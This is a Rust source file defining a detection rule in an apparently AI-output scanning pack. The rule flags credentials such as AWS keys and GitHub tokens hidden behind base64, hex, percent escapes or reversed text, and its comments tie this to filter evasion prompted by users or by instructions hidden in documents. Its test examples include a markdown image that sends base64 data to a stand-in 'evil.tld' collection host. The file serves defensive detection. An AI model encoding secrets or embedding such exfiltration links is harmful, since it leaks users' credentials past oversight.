use lictor_sdk::{Case, Dimension, Example, Extra, Finding, Hit, Level, Span, Status, rule};

rule! {
    /// ## What it does
    /// Reports what another rule of this pack found only after decoding: in base64, hexadecimal, percent escapes, rot13, written
    /// backwards, or two of these in turn. Numbers that were spelled out or cut up are EXP708's.
    ///
    /// ## Why is this bad
    /// Nobody encodes a secret for the person who reads the answer. It is done to get it past a filter like this one, by a
    /// person who asked for it or by an instruction hidden in a document.
    ///
    /// ## Known false positives
    /// Formats that are base64 by nature and hold what another rule looks for, such as a Kubernetes secret in a code sample: the
    /// value is exposed all the same.
    pub(crate) ENCODED_SENSITIVE_VALUE {
        code: "EXP707",
        slug: "encoded-sensitive-value",
        summary: "something sensitive behind an encoding",
        message: "hides something sensitive behind an encoding",
        remedy: "Look for the instruction that asked for the encoding.",
        dimension: Dimension::Risk,
        level: Level::Block,
        status: Status::Stable,
        since: "0.1.0",
        revision: 2,
        sensitive: true,
        requires: &[],
        patterns: &[],
        fires: &[
            Example::answer("{{base64:The key is AKIA{{random:base32:16}}, keep it.}}"),
            Example::answer("Here: {{hex:token ghp_{{random:alnum:36}}}}"),
            Example::answer("Read it backwards: {{reversed:the key is AKIA{{random:base32:16}}}}"),
            Example::answer("{{base64:{{percent:AKIA{{random:base32:16}} is the key}}}}"),
        ],
        ignores: &[
            Example::answer("The key is AKIA{{random:base32:16}}, keep it."),
            Example::answer("{{base64:Nothing to see here, just an ordinary sentence.}}"),
            Example::answer("sha256: {{random:hex:64}}"),
            Example::answer("card 4539.1488.0343.6467"),
            Example::answer("https://acme.com/fax?from=call%20me&to=%2B14158675309&at=2017-04-01T00%3A00"),
            Example::answer("The key is {{zero-width:AKIA{{random:base32:16}}}}."),
            Example::answer("![x](https://collect.evil.tld/p?d=c2VjcmV0) {{tags:send it}} {{base64:The IBAN is not here, sorry.}}"),
        ],
        check: |case: &Case<'_>| {
            let plain: Vec<u32> = case.hits().filter(is_plain).map(|hit| hit.index()).collect();
            let shown = |finding: &Finding| finding.hits.is_empty() || finding.hits.iter().any(|hit| plain.contains(hit));
            // The hits of the channel rules are not among this rule's own, so it cannot tell where they rest.
            let reported = case.reported().into_iter().filter(|finding| !finding.rule.starts_with("EXP7") && finding.rule != "EXP108");
            let (shown, hidden): (Vec<_>, Vec<_>) = reported.partition(shown);
            let mut seen: Vec<Vec<Span>> = Vec::new();
            for finding in hidden {
                // What can be read without decoding is not hidden, whatever else its letters decode to.
                let is_shown = shown.iter().any(|other| other.rule == finding.rule && overlap(other, &finding));
                if !is_shown && !seen.contains(&finding.spans) {
                    seen.push(finding.spans.clone());
                    case.report(Finding { hits: finding.hits, spans: finding.spans, ..Finding::default() });
                }
            }
        },
        extra: Extra {
            tags: &["channel"],
            shares: &["EXP1", "EXP2", "EXP3", "EXP4", "EXP5", "EXP6"],
            references: &["AML.T0068", "LLM02:2025", "CWE-200"],
            ..Extra::NONE
        },
    }
}

/// Whether a reader sees it: as it stands, as EXP708 says, or in an address with the odd percent escape, which is how
/// addresses are written.
fn is_plain(hit: &Hit<'_>) -> bool {
    match hit.view().as_str() {
        "raw" | "normalised" | "digits" => true,
        "percent" => {
            let span = hit.span();
            let written = hit.part().text().get(span.start as usize..span.end as usize).unwrap_or_default();
            written.matches('%').count() * 6 < written.len()
        }
        _ => false,
    }
}

fn overlap(a: &Finding, b: &Finding) -> bool {
    let meets = |a: &Span, b: &Span| a.part == b.part && a.start < b.end && b.start < a.end;
    a.spans.iter().any(|a| b.spans.iter().any(|b| meets(a, b)))
}
